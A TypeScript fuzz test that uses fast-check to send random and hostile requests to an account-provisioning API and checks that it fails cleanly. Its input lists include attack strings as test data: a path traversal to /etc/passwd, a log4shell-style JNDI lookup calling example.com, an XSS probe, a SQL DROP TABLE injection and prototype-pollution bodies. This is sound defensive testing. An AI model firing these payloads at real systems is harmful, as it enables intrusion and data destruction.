import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { errorResponseSchema, requestAcceptedSchema } from '../../functions/api/schemas.ts';
import { type ApiEnv, startApiEnv } from './harness.ts';

/** One HTTP request as the property sends it. */
interface Attempt {
  path: string;
  headers: Record<string, string>;
  body: string | Uint8Array;
}

const printable = (min: number, max: number) =>
  fc.string({ unit: fc.integer({ min, max }).map((code) => String.fromCharCode(code)), maxLength: 300 });

/** Values no field should choke on: wrong types, control and lone surrogate characters, injections, huge strings. */
const hostileValue = fc.oneof(
  fc.anything({ maxDepth: 3 }),
  fc.string({ unit: 'binary', maxLength: 100 }),
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    '\ud800',
    '\udfff\ud800',
    '\u202e',
    '../../etc/passwd',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, sent literally.
    '${jndi:ldap://example.com/a}',
    '<script>alert(1)</script>',
    "'; DROP TABLE accounts; --",
    'x'.repeat(5000),
    '__proto__',
    'AWS+SHOUT@EXAMPLE.COM',
    'a@b.c',
    'Sandbox/../Workloads/Prod',
    'ou-root-1234',
    'r-0000',
  ),
  fc.double(),
  fc.constantFrom(null, true, -1, 0, 1e308, Number.MAX_SAFE_INTEGER + 2),
  fc.dictionary(fc.string({ maxLength: 10 }), fc.anything({ maxDepth: 2 }), { maxKeys: 5 }),
);

const validBody = fc.record({
  name: fc.stringMatching(/^[a-z][a-z0-9-]{1,20}[a-z0-9]$/),
  organizationalUnit: fc.constantFrom('Sandbox', 'Workloads/Dev', 'Workloads/Prod'),
  owner: fc.constant('alice@example.com'),
});

/** A valid body with one field (or a field it should not have) set to something hostile. */
const mutatedBody = fc
  .tuple(
    validBody,
    fc.constantFrom(
      'name',
      'organizationalUnit',
      'owner',
      'email',
      'requester',
      'budget',
      'tags',
      'vpc',
      '__proto__',
      'constructor',
      'prototype',
      'unexpected',
    ),
    hostileValue,
  )
  .map(([body, key, value]) => ({ ...body, [key]: value }));

const nestedTags = fc
  .tuple(validBody, fc.dictionary(fc.string({ maxLength: 20 }), hostileValue, { maxKeys: 45 }))
  .map(([body, tags]) => ({ ...body, tags }));

const bodyText = fc.oneof(
  { weight: 3, arbitrary: mutatedBody.map((body) => JSON.stringify(body)) },
  { weight: 1, arbitrary: nestedTags.map((body) => JSON.stringify(body)) },
  { weight: 1, arbitrary: validBody.map((body) => JSON.stringify(body)) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.stringify(value) ?? '') },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '',
      '   ',
      '{',
      '[]',
      'null',
      '"x"',
      '{"name":',
      '{"__proto__":{"polluted":true},"name":"abc","organizationalUnit":"Sandbox","owner":"a@b.co"}',
      '{"constructor":{"prototype":{"polluted":true}}}',
      '\ufeff{"name":"abc","organizationalUnit":"Sandbox","owner":"a@b.co"}',
      '{"name":"abc","name":"def","organizationalUnit":"Sandbox","owner":"a@b.co"}',
      'x'.repeat(40 * 1024),
    ),
  },
  // Deep nesting, under the body limit: recursive code must not overflow its stack.
  {
    weight: 1,
    arbitrary: fc.integer({ min: 1, max: 15_000 }).map((n) => `${'['.repeat(n)}${']'.repeat(n)}`),
  },
  {
    weight: 2,
    arbitrary: fc
      .integer({ min: 1, max: 5_000 })
      .map(
        (n) =>
          `{"name":"abc","organizationalUnit":"Sandbox","owner":"a@b.co","tags":${'{"a":'.repeat(n)}1${'}'.repeat(n)}}`,
      ),
  },
);

const body: fc.Arbitrary<string | Uint8Array> = fc.oneof(
  { weight: 6, arbitrary: bodyText },
  // Bytes that are not UTF-8.
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 300 }) },
);

/** Mostly JSON, so that most bodies get past the media type check to the parsing and validation behind it. */
const contentType = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('application/json', 'application/json; charset=utf-8') },
  { weight: 1, arbitrary: fc.constant(undefined) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'APPLICATION/JSON;CHARSET="UTF-8"',
      'application/json; charset=utf-16',
      'application/json; charset=latin1',
      'application/json;',
      'application/json; charset',
      'application/json; =',
      'application/json;;;charset==utf-8',
      'application/json, text/plain',
      'text/plain',
      'multipart/form-data; boundary=x',
      'application/x-www-form-urlencoded',
      '*/*',
      '',
    ),
  },
  { weight: 1, arbitrary: printable(0x20, 0x7e) },
);

/** Mostly a valid key, which adds the idempotency path (hashing the body, claiming the key) to the checks. */
const idempotencyKey = fc.oneof(
  { weight: 3, arbitrary: printable(0x21, 0x7e).filter((key) => key.length > 0) },
  { weight: 2, arbitrary: fc.constant(undefined) },
  { weight: 1, arbitrary: printable(0x20, 0xff) },
  { weight: 1, arbitrary: fc.constantFrom(' ', 'a b', 'k'.repeat(255), 'k'.repeat(256), '\t', 'ümlaut') },
);

const authorization = fc.oneof(
  { weight: 4, arbitrary: fc.constant(undefined) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'AWS4-HMAC-SHA256 Credential=test/20261122/us-east-1/execute-api/aws4_request, SignedHeaders=host, Signature=0',
      'AWS4-HMAC-SHA256 Credential=AKIAUNKNOWN/20261122/us-east-1/execute-api/aws4_request, SignedHeaders=host, Signature=0',
      'AWS4-HMAC-SHA256 Credential=/',
      'Bearer x',
    ),
  },
  { weight: 1, arbitrary: printable(0x20, 0x7e) },
);

const attempt: fc.Arbitrary<Attempt> = fc
  .record({
    path: fc.constantFrom('/accounts', '/accounts/', '/accounts?x=1', '/accounts?name=a&name=b'),
    body,
    contentType,
    idempotencyKey,
    authorization,
    contentEncoding: fc.constantFrom(undefined, 'gzip', 'identity', 'br, zstd'),
  })
  .map(
    ({ path, body: sent, contentType: type, idempotencyKey: key, authorization: auth, contentEncoding }) => {
      const headers: Record<string, string> = {};
      if (type !== undefined) headers['content-type'] = type;
      if (key !== undefined) headers['idempotency-key'] = key;
      if (auth !== undefined) headers.authorization = auth;
      if (contentEncoding !== undefined) headers['content-encoding'] = contentEncoding;
      return { path, headers, body: sent };
    },
  );

describe('POST /accounts with random and hostile input', () => {
  let env: ApiEnv;
  beforeAll(async () => {
    env = await startApiEnv();
  });
  afterAll(() => env.close());

  it('answers 2xx or 4xx with a message, never 5xx, and a refusal starts no execution', async () => {
    let sent = 0;
    await fc.assert(
      fc.asyncProperty(attempt, async ({ path, headers, body: payload }) => {
        const before = await env.snapshot();
        let response: Response;
        try {
          response = await fetch(`${env.api.url}${path}`, { method: 'POST', headers, body: payload });
        } catch (error) {
          // A header value fetch itself refuses to send: nothing reached the API.
          fc.pre(!(error instanceof TypeError));
          throw error;
        }
        sent++;
        const text = await response.text();
        const status = response.status;
        expect(status, text).toBeGreaterThanOrEqual(200);
        expect(status, text).toBeLessThan(500);
        expect(status === 202 || status >= 400, `${status} ${text}`).toBe(true);
        const gateway = status === 403 && response.headers.get('x-amzn-errortype') !== null;
        if (gateway) {
          // Refused by the signature check in front of the handler, in API Gateway's own form.
          expect(headers.authorization, text).toBeDefined();
          expect((JSON.parse(text) as { message: string }).message.trim().length, text).toBeGreaterThan(0);
          expect(
            await env.snapshot(),
            'a refused signature stored a request or started an execution',
          ).toEqual(before);
        } else if (status >= 400) {
          const parsed = errorResponseSchema.safeParse(JSON.parse(text));
          expect(parsed.success, text).toBe(true);
          expect(parsed.data?.error.status).toBe(status);
          expect(parsed.data?.error.message.trim().length, text).toBeGreaterThan(0);
          expect(await env.snapshot(), `a ${status} stored a request or started an execution`).toEqual(
            before,
          );
        } else {
          const { requestId, status: accepted } = requestAcceptedSchema.parse(JSON.parse(text));
          // A request awaiting approval (Workloads/Prod) starts nothing until an approver decides.
          const started = env.pipeline.runner.get(requestId) !== undefined;
          expect(started, `accepted as ${accepted}`).toBe(accepted !== 'awaiting-approval');
        }
      }),
      { seed: 42, numRuns: 200 },
    );
    expect(sent).toBeGreaterThan(150);
  });

  it('refuses a body nested thousands of levels deep with a 400, with or without an Idempotency-Key', async () => {
    const nested = `{"name":"deep","organizationalUnit":"Sandbox","owner":"a@b.co","tags":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}}`;
    for (const headers of [{}, { 'idempotency-key': 'deep-nesting' }] as Record<string, string>[]) {
      const before = await env.snapshot();
      const answer = await env.call('POST', '/accounts', {
        raw: nested,
        headers: { 'content-type': 'application/json', ...headers },
      });
      expect(answer.status, answer.text).toBe(400);
      expect(answer.body.error.message).toContain('levels deep');
      expect(await env.snapshot()).toEqual(before);
    }
  });
});
